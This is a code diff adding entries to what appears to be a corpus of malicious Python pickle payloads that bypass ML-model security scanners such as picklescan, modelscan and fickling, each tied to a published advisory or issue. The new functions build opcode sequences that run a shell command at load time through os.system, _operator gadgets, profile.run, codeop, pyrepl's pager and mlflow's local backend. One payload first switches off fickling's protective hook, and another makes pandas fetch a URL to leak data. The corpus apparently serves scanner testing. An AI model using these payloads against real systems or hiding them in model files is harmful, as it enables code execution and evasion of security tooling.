@@ -415,6 +415,63 @@ def _builtins_import_getattr(m: Path) -> bytes:
     )
 
 
+def _c_operator_attrgetter(m: Path) -> bytes:
+    # _operator.attrgetter('system')(builtins.__import__('os'))(cmd): the C module's name, which
+    # a blocklist of operator.* does not match.
+    return (
+        proto(4)
+        + sglobal("_operator", "attrgetter")
+        + u("system")
+        + TUPLE1
+        + REDUCE
+        + sglobal("builtins", "__import__")
+        + u("os")
+        + TUPLE1
+        + REDUCE
+        + TUPLE1
+        + REDUCE
+        + u(shell(m))
+        + TUPLE1
+        + REDUCE
+        + STOP
+    )
+
+
+def _c_operator_methodcaller(m: Path) -> bytes:
+    # _operator.methodcaller('system', cmd)(builtins.__import__('os'))
+    return (
+        proto(4)
+        + sglobal("_operator", "methodcaller")
+        + u("system")
+        + u(shell(m))
+        + TUPLE2
+        + REDUCE
+        + sglobal("builtins", "__import__")
+        + u("os")
+        + TUPLE1
+        + REDUCE
+        + TUPLE1
+        + REDUCE
+        + STOP
+    )
+
+
+def _scanner_deactivation(m: Path) -> bytes:
+    # fickling's load-time hook removed first, then the payload that hook would have stopped.
+    return (
+        proto(4)
+        + sglobal("fickling.hook", "deactivate_safe_ml_environment")
+        + EMPTY_TUPLE
+        + REDUCE
+        + POP
+        + sglobal("os", "system")
+        + u(shell(m))
+        + TUPLE1
+        + REDUCE
+        + STOP
+    )
+
+
 def _methodcaller_locate(m: Path) -> bytes:
     # operator.methodcaller('system', cmd)(pydoc.locate('os'))
     return (
@@ -999,6 +1056,36 @@ BYPASSES: list[Payload] = [
         "os.system",
         ".bin",
     ),
+    Payload(
+        "picklescan_profile_module_run_ghsa_7wx9",
+        _GH_PS + "GHSA-7wx9-6375-f5wh (module-level profile.run; Profile.run was blocked)",
+        _fn("profile", "run", _PY),
+        "profile.run",
+    ),
+    Payload(
+        "picklescan_codeop_compile_command_ghsa_g38g",
+        _GH_PS + "GHSA-g38g-8gr9-h9xp (stdlib modules missing from the blocklist: codeop)",
+        _fn("codeop", "compile_command", _PY),
+        "codeop.compile_command",
+    ),
+    Payload(
+        "picklescan_pyrepl_pipe_pager_ghsa_g38g",
+        _GH_PS + "GHSA-g38g-8gr9-h9xp (picklescan's GHSA-g38g-8gr9-h9xp-pyrepl-pager.pkl)",
+        _fn("_pyrepl.pager", "pipe_pager", _lit(""), _SH),
+        "_pyrepl.pager.pipe_pager",
+    ),
+    Payload(
+        "picklescan_c_operator_methodcaller_ghsa_955r",
+        _GH_PS + "GHSA-955r-x9j8-7rhh (_operator.methodcaller on builtins.__import__)",
+        _c_operator_methodcaller,
+        "_operator.methodcaller",
+    ),
+    Payload(
+        "picklescan_c_operator_attrgetter_ghsa_46h3",
+        _GH_PS + "GHSA-46h3-79wf-xr6c (_operator.attrgetter on builtins.__import__)",
+        _c_operator_attrgetter,
+        "_operator.attrgetter",
+    ),
     # -- modelscan -----------------------------------------------------------------------------
     Payload(
         "modelscan_numpy_prod_build_setattr",
@@ -1031,6 +1118,18 @@ BYPASSES: list[Payload] = [
         "multiprocessing.util.spawnv_passfds",
     ),
     Payload(
+        "modelscan_mlflow_run_entry_point",
+        "https://github.com/protectai/modelscan/issues/338 (mlflow's local backend runs a shell command)",
+        _fn("mlflow.projects.backend.local", "_run_entry_point", _SH, _lit("."), _lit(""), _lit("")),
+        "mlflow.projects.backend.local._run_entry_point",
+    ),
+    Payload(
+        "modelscan_pandas_read_csv_exfiltration",
+        "https://github.com/protectai/modelscan/issues/338 (pandas fetches a URL at load: exfiltration)",
+        _fn("pandas.io.parsers.readers", "read_csv", lambda m: f"http://127.0.0.1:9/?leak={m.name}"),
+        "pandas.io.parsers.readers.read_csv",
+    ),
+    Payload(
         "modelscan_nested_pickle_loads",
         "https://github.com/protectai/modelscan/issues/267",
         _nested_pickle_loads,
@@ -1041,6 +1140,12 @@ BYPASSES: list[Payload] = [
         "fickling_pty_spawn_obj", "https://github.com/trailofbits/fickling/pull/108", _obj_pty, "pty.spawn"
     ),
     Payload("fickling_pty_spawn_build", _GH_FK + "GHSA-r7v6-mfhq-g3m2", _pty_build, "pty.spawn"),
+    Payload(
+        "fickling_scanner_deactivation",
+        "https://github.com/trailofbits/fickling/pull/249 (a pickle removes fickling's load hook first)",
+        _scanner_deactivation,
+        "fickling.hook.deactivate_safe_ml_environment",
+    ),
     Payload(
         "pytorch_tensor_storage_offset_out_of_bounds",
         "https://github.com/pytorch/pytorch/pull/183381 (size, stride and offset unchecked on unpickling)",
